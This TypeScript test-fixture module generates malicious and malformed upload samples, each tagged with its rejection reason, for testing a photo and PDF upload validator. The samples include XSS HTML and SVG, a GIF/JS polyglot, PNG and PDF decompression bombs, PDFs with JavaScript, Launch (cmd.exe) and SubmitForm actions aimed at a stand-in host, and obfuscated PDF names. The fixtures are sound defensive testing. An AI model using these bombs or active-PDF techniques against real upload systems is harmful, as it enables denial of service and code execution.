import { constants, crc32, deflateSync } from "node:zlib";
import { PDFDocument, PDFHexString, PDFName, PDFString } from "@cantoo/pdf-lib";
import sharp from "sharp";

/** Files as people and attackers send them, made here: none of them lies in the repository. */
export type Sample = { name: string; bytes: Uint8Array };
const text = (content: string) => new TextEncoder().encode(content);
const join = (...parts: (Uint8Array | string)[]) => new Uint8Array(Buffer.concat(parts.map((part) => Buffer.from(part as Uint8Array))));

export const fileOf = ({ name, bytes }: Sample) => new File([new Uint8Array(bytes)], name);

const HTML = "<!doctype html><script>alert(document.domain)</script>";
const ZIP = join("PK\u0003\u0004", new Uint8Array(40));

/** A picture with something to see: noise that repeats, so that it does not shrink to nothing. */
export async function jpeg(width = 800, height = 600): Promise<Uint8Array> {
  const raw = Buffer.from(Uint8Array.from({ length: width * height * 3 }, (_, i) => (i * 7 + ((i / 97) | 0) * 13) % 251));
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .jpeg()
    .toBuffer();
}
export const png = async (width = 300, height = 200): Promise<Uint8Array> =>
  sharp({ create: { width, height, channels: 3, background: "#456" } })
    .png()
    .toBuffer();

/** As a phone writes it: lying on its side, and with the place where it was taken. */
export const jpegFromPhone = async (): Promise<Uint8Array> =>
  sharp(await jpeg(600, 400))
    .withExif({
      IFD0: { Make: "Telepon", Copyright: "Sari" },
      IFD3: { GPSLatitudeRef: "S", GPSLatitude: "6/1 10/1 30/1", GPSLongitudeRef: "E", GPSLongitude: "106/1 49/1 0/1" },
    })
    .withMetadata({ orientation: 6 })
    .toBuffer();

/** A PNG whose head promises more pixels than any machine has room for. */
function pngThatPromises(width: number, height: number): Uint8Array {
  const chunk = (type: string, data: Uint8Array) => {
    const body = join(type, data);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(data.length, 0);
    ends.writeUInt32BE(crc32(body), 4);
    return join(ends.subarray(0, 4), body, ends.subarray(4));
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([8, 2, 0, 0, 0], 8);
  const signature = Uint8Array.of(0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a);
  return join(signature, chunk("IHDR", head), chunk("IDAT", deflateSync(Buffer.alloc(1_000_000))), chunk("IEND", new Uint8Array(0)));
}

type Change = (document: PDFDocument) => void | Promise<void>;
export async function pdf(change: Change = () => {}, options: { useObjectStreams?: boolean } = {}): Promise<Uint8Array> {
  const document = await PDFDocument.create({ updateMetadata: false });
  document.addPage([300, 300]);
  await change(document);
  return document.save(options);
}

const opening = (deed: Record<string, unknown>): Change => {
  return (document) => {
    document.catalog.set(PDFName.of("OpenAction"), document.context.obj(deed as Parameters<typeof document.context.obj>[0]));
  };
};

/** A PDF written by hand, with its table where its end says: objects 1 and 2 are its catalogue and its pages. */
export function pdfByHand(...more: (Uint8Array | string)[]): Uint8Array {
  const body = join(
    "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
    "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>\nendobj\n",
    ...more,
  );
  return join(body, `xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size 9 /Root 1 0 R >>\nstartxref\n${body.length}\n%%EOF\n`);
}
const streamOf = (dict: string, packed: Uint8Array) =>
  join(`4 0 obj\n<< ${dict} /Length ${packed.length} >>\nstream\n`, packed, "\nendstream\nendobj\n");
const objects = (filter: string) => `/Type /ObjStm /N 1 /First 4 /Filter ${filter}`;

/** Ninety million spaces, and ninety million packed twice. */
const bomb = () => deflateSync(Buffer.alloc(90_000_000, 32));
/** Forty million spaces, and then a block of a kind that there is not. */
const brokenBomb = () => join(deflateSync(Buffer.alloc(40_000_000, 32), { finishFlush: constants.Z_SYNC_FLUSH }), new Uint8Array([0x07]));

/** What must not be kept, each with the sentence it is refused with. */
export async function refusedSamples(): Promise<(Sample & { why: string })[]> {
  const photo = await jpeg();
  const picture = await png();
  const plain = await pdf();
  const sample = (why: string, name: string, bytes: Uint8Array) => ({ why, name, bytes });
  return [
    sample("notPhoto", "halaman.jpg", text(HTML)),
    sample("notPdf", "halaman.pdf", text(HTML)),
    sample("kind", "gambar.svg", text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')),
    sample("notPhoto", "gambar.png", text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>')),
    sample("notPhoto", "gif-yang-program.jpg", text("GIF89a/*\u0000\u0000*/=1;alert(1)//")),
    sample("notPdf", "program.pdf", join("\u007fELF\u0002\u0001\u0001", new Uint8Array(64))),
    sample("kind", "program.exe", join("MZ", new Uint8Array(64))),
    sample("kind", "surat.docm", ZIP),
    sample("kind", "foto.heic", join(new Uint8Array([0, 0, 0, 24]), "ftypheic", new Uint8Array(40))),
    sample("kind", "foto.webp", await sharp(photo).webp().toBuffer()),
    sample("brokenPhoto", "terpotong.jpg", photo.subarray(0, photo.length / 2)),
    sample("brokenPhoto", "terpotong.png", picture.subarray(0, picture.length / 2)),
    sample("brokenPhoto", "kepala-saja.jpg", join(Uint8Array.of(0xff, 0xd8, 0xff, 0xe0), HTML)),
    sample("bigPhoto", "bom.png", pngThatPromises(60_000, 60_000)),
    sample("bigPhoto", "besar.png", await png(6_000, 3_000)),
    sample("brokenPdf", "terpotong.pdf", plain.subarray(0, plain.length / 2)),
    sample("brokenPdf", "tanpa-ujung.pdf", plain.subarray(0, plain.length - 12)),
    sample("brokenPdf", "tengahnya-hilang.pdf", join(plain.subarray(0, 60), plain.subarray(200))),
    sample("brokenPdf", "tanpa-halaman.pdf", text("%PDF-1.7\nxref\n0 0\ntrailer\n<< >>\nstartxref\n9\n%%EOF")),
    sample("wrappedPdf", "halaman-di-belakang.pdf", join(plain, HTML)),
    sample("wrappedPdf", "arsip-di-belakang.pdf", join(plain, ZIP)),
    sample("wrappedPdf", "halaman-di-depan.pdf", join(HTML, "\n", plain)),
    sample("activePdf", "program-saat-dibuka.pdf", await pdf(opening({ S: "JavaScript", JS: PDFString.of("app.alert(1)") }))),
    sample("activePdf", "program-lain.pdf", await pdf(opening({ S: "Launch", F: PDFString.of("cmd.exe") }))),
    sample("activePdf", "formulir-yang-mengirim.pdf", await pdf(opening({ S: "SubmitForm", F: PDFString.of("https://jahat.example") }))),
    sample("activePdf", "berkas-di-dalam.pdf", await pdf((document) => document.attach(text("isi"), "isi.exe"))),
    sample(
      "activePdf",
      "program-di-kemasan.pdf",
      await pdf(opening({ S: "JavaScript", JS: PDFHexString.fromText("app.alert(1)") }), { useObjectStreams: true }),
    ),
    sample("activePdf", "nama-tersamar.pdf", pdfByHand("4 0 obj\n<< /#53 /J#61vaScript /#4aS (app.alert\\(1\\)) >>\nendobj\n")),
    sample("activePdf", "di-dalam-keterangan.pdf", pdfByHand("% 4 0 obj << /S /JavaScript >> endobj\n")),
    sample("lockedPdf", "terkunci.pdf", await pdf((document) => document.encrypt({ userPassword: "rahasia", ownerPassword: "rahasia" }))),
    sample("packedPdf", "bom.pdf", pdfByHand(streamOf(objects("/FlateDecode"), bomb()))),
    sample("packedPdf", "bom-ganda.pdf", pdfByHand(streamOf(objects("[/FlateDecode /FlateDecode]"), deflateSync(bomb())))),
    sample("packedPdf", "bom-terpotong.pdf", pdfByHand(...Array<Uint8Array>(12).fill(streamOf("/Filter /FlateDecode", brokenBomb())))),
    sample("packedPdf", "kemasan-lain.pdf", pdfByHand(streamOf(objects("[/ASCIIHexDecode /Fl#61teDecode]"), text("00>")))),
    sample("empty", "kosong.jpg", new Uint8Array(0)),
    sample("missing", "", new Uint8Array(0)),
    sample("large", "besar.pdf", join(plain, new Uint8Array(5 * 1024 * 1024))),
  ];
}
